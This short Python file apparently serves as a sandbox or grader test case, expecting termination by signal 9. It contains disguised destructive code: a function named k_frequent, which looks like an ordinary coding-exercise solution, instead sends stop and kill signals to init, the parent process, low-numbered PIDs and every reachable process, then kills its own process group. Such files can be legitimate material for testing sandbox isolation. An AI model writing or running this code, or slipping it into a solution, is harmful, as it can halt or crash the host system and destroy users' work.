# expect: signal 9
# Sends all that ends or stops a process to all there are.
import os
import signal


def k_frequent(nums, k):
    for number in signal.SIGSTOP, signal.SIGKILL, signal.SIGINT, signal.SIGTERM:
        for pid in [1, os.getppid(), *range(2, 40), -1]:
            try:
                if pid != os.getpid():
                    os.kill(pid, number)
            except OSError:
                pass
    os.kill(0, signal.SIGKILL)
